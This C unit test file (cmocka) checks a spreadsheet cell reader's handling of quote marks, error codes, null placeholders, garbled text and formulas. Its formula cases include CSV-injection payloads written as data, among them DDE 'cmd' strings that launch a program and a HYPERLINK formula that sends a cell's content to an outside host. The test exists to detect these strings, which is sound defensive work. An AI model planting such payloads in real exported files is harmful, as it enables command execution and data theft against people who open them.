/* cell: what programs leave in a cell in place of a value, and what only looks like it. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

#include "formats/read/cell.h"

/* clang-format off */
static const struct {
    const char *cell, *plain;
} marks[] = {
    {"=\"2026112952940000009998\"", "2026112952940000009998"},
    {"=\"001\"",       "001"},
    {"=\" 001 \"",     "001"},
    {"=\"\"",          ""},
    {"=\"a\"\"b\"",    "=\"a\"\"b\""},
    {"=\"a\"&\"b\"",   "=\"a\"&\"b\""},
    {"=A1",            "=A1"},
    {"=",              "="},
    {"'2026112952940000009999", "2026112952940000009999"},
    {"'001",           "001"},
    {"'LY-2026/01",    "LY-2026/01"},
    {"'001'",          "001"},
    {"'张三",           "张三"},
    {"'+86-597-5550000", "+86-597-5550000"},
    {"'s-Hertogenbosch", "'s-Hertogenbosch"},
    {"'t Hooft 3'",    "'t Hooft 3'"},
    {"'90s' style",    "'90s' style"},
    {"'",              "'"},
    {"''",             "''"},
    {"O'Brien",        "O'Brien"},
    {"",               ""},
};

static const struct {
    const char *cell;
    err_code_t code; /* ERR_NONE: data */
    const char *want;
    bool personal, required;
} cells[] = {
    {"#N/A",      ERR_CELL_ERROR, "", 0, 0},
    {"#n/a",      ERR_CELL_ERROR, "", 0, 0},
    {"#nv",       ERR_CELL_ERROR, "", 0, 0},
    {"#REF!",     ERR_CELL_ERROR, "", 0, 0},
    {"#DIV/0!",   ERR_CELL_ERROR, "", 0, 0},
    {"#NAME?",    ERR_CELL_ERROR, "", 0, 0},
    {"#BEZUG!",   ERR_CELL_ERROR, "", 0, 0},
    {"#¡VALOR!",  ERR_CELL_ERROR, "", 0, 0},
    {"#ЗНАЧ!",    ERR_CELL_ERROR, "", 0, 0},
    {"#SPILL!",   ERR_CELL_ERROR, "", 0, 0},
    {"#Error",    ERR_CELL_ERROR, "", 0, 0},
    {"########",  ERR_CELL_ERROR, "", 0, 0},
    {"##",        ERR_CELL_ERROR, "", 0, 0},
    {"Err:508",   ERR_CELL_ERROR, "", 0, 0},
    {"错误:502",   ERR_CELL_ERROR, "", 0, 0},
    {"#1001",     ERR_NONE, "", 0, 0},
    {"#",         ERR_NONE, "", 0, 0},
    {"#3 size M", ERR_NONE, "", 0, 0},
    {"Erratum",   ERR_NONE, "", 0, 0},
    {"NULL",      ERR_NO_VALUE, "", 0, 0},
    {"null",      ERR_NO_VALUE, "", 1, 0},
    {"Null",      ERR_NO_VALUE, "", 0, 0},
    {"Null",      ERR_NONE, "", 1, 0},
    {"Nullmeier", ERR_NONE, "", 0, 0},
    {"\\N",       ERR_NO_VALUE, "", 0, 0},
    {"(null)",    ERR_NO_VALUE, "", 0, 0},
    {"[NULL]",    ERR_NO_VALUE, "", 0, 0},
    {"<null>",    ERR_NO_VALUE, "", 0, 0},
    {"NaN",       ERR_NO_VALUE, "", 0, 0},
    {"nan",       ERR_NO_VALUE, "", 0, 0},
    {"Nan",       ERR_NO_VALUE, "", 0, 0},
    {"Nancy",     ERR_NONE, "", 0, 0},
    {"None",      ERR_NO_VALUE, "", 0, 0},
    {"none of these", ERR_NONE, "", 0, 0},
    {"N/A",       ERR_NO_VALUE, "", 0, 0},
    {"NaT",       ERR_NO_VALUE, "", 0, 0},
    {"undefined", ERR_NO_VALUE, "", 0, 0},
    {"[object Object]", ERR_NO_VALUE, "", 0, 0},
    {"(空白)",     ERR_NO_VALUE, "", 0, 0},
    {"-",         ERR_NO_VALUE, "", 0, 1},
    {"——",        ERR_NO_VALUE, "", 0, 1},
    {"-",         ERR_NONE, "", 0, 0},
    {"/",         ERR_NONE, "", 0, 1},
    {"-5",        ERR_NONE, "", 0, 1},
    {"无",         ERR_NONE, "", 0, 1},
    {"U 型",       ERR_NONE, "", 0, 1},
    {"???????",   ERR_GARBLED, "?", 0, 0},
    {"??",        ERR_GARBLED, "?", 1, 0},
    {"?",         ERR_GARBLED, "?", 0, 0},
    {"?州茶",      ERR_GARBLED, "?", 0, 0},
    {"iPhone???", ERR_GARBLED, "?", 0, 0},
    {"iPhone?\?(?\?)", ERR_GARBLED, "?", 0, 0},
    {"Blk ?? 12", ERR_GARBLED, "?", 0, 0},
    {"200?230 cm", ERR_GARBLED, "?", 0, 0},
    {"张?",        ERR_GARBLED, "?", 1, 0},
    {"新罗区?川路", ERR_GARBLED, "?", 1, 0},
    {"what is it?", ERR_NONE, "", 0, 0},
    {"is this really all??", ERR_NONE, "", 0, 0},
    {"适用于什么?",  ERR_NONE, "", 0, 0},
    {"what? this", ERR_NONE, "", 0, 0},
    {"see http://a.cn/x?id=1", ERR_NONE, "", 0, 0},
    {"\xEF\xBF\xBD\xEF\xBF\xBD三", ERR_GARBLED, "U+FFFD", 0, 0},
    {"锟斤拷",     ERR_GARBLED, "锟斤拷", 0, 0},
    {"烫烫烫烫",   ERR_GARBLED, "烫烫烫", 0, 0},
    {"烫斗",       ERR_NONE, "", 0, 0},
    {"é¾™å²©",     ERR_GARBLED, "é¾™å²©", 0, 0},
    {"æ”¯ä»˜ä¼ä¸š", ERR_GARBLED, "é¾™å²©", 0, 0},
    {"Ö§¸¶ÆóÒµ",   ERR_GARBLED, "é¾™å²©", 0, 0},
    {"Crème brûlée à l’érable", ERR_NONE, "", 0, 0},
    {"Ærø Åndalsnes", ERR_NONE, "", 0, 0},
    {"“龙岩”——……", ERR_NONE, "", 0, 0},
    {"张&amp;三",   ERR_GARBLED, "&amp;", 0, 0},
    {"&#40857;岩",  ERR_GARBLED, "&#40857;", 0, 0},
    {"A&B; C",     ERR_NONE, "", 0, 0},
    {"AT&T",       ERR_NONE, "", 0, 0},
    {"张<br>三",    ERR_GARBLED, "<br>", 0, 0},
    {"< 5 kg",     ERR_NONE, "", 0, 0},
    {"\\u9f99\\u5ca9", ERR_GARBLED, "\\u9f99", 0, 0},
    {"a\\b",       ERR_NONE, "", 0, 0},
    {"=1+1",       ERR_FORMULA, "", 0, 0},
    {"@SUM(A1)",   ERR_FORMULA, "", 0, 0},
    {"@handle",    ERR_NONE, "", 0, 0},
    {"+86 597",    ERR_NONE, "", 0, 0},
    {"+cmd|'/C calc'!A0", ERR_FORMULA, "", 0, 0},
    {"-1+cmd|' /C calc'!A0", ERR_FORMULA, "", 0, 0},
    {"-1+HYPERLINK(\"http://x.cn/?\"&A2,\"保温杯\")", ERR_FORMULA, "", 0, 0},
    {"+ sum(A1:A9)", ERR_FORMULA, "", 0, 0},
    {"-(1+_xlfn.WEBSERVICE(A1))", ERR_FORMULA, "", 0, 0},
    {"+Sheet2!A1", ERR_FORMULA, "", 0, 0},
    {"+'[other.xlsx]1'!$A$1", ERR_FORMULA, "", 0, 0},
    {"-5℃保温杯",  ERR_NONE, "", 0, 0},
    {"-18℃冷冻虾仁(2kg)", ERR_NONE, "", 0, 0},
    {"-5 piece(s)", ERR_NONE, "", 0, 0},
    {"-5|红色",    ERR_NONE, "", 0, 0},
    {"-50% off! today", ERR_NONE, "", 0, 0},
    {"+86 0597 1234", ERR_NONE, "", 0, 0},
    {"+86(597)1234", ERR_NONE, "", 0, 0},
    {"(+) 2支",    ERR_NONE, "", 0, 0},
    {"-1+1",       ERR_NONE, "", 0, 0},
    {"-1,234.50",  ERR_NONE, "", 0, 0},
    {"",           ERR_NONE, "", 0, 1},
};
/* clang-format on */

static void
marks_are_taken_off_where_they_can_be_nothing_else(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof marks / sizeof *marks; i++)
        if (!span_is(cell_plain(span_of(marks[i].cell)), marks[i].plain))
            fail_msg("%s is %.*s, not %s", marks[i].cell,
                     SPAN_F(cell_plain(span_of(marks[i].cell))), marks[i].plain);
}

static void
what_is_no_data_says_so(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof cells / sizeof *cells; i++) {
        struct plan_node column = {.personal = cells[i].personal, .min = cells[i].required};
        struct finding f = {0};
        bool no_data = cell_is_no_data(&column, span_of(cells[i].cell), &f);

        if (f.code != cells[i].code || no_data != (cells[i].code != ERR_NONE))
            fail_msg("%s (case %zu): E%d, not E%d", cells[i].cell, i, (int)f.code,
                     (int)cells[i].code);
        if (no_data)
            assert_string_equal(f.want, cells[i].want);
    }
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(marks_are_taken_off_where_they_can_be_nothing_else),
        cmocka_unit_test(what_is_no_data_says_so),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
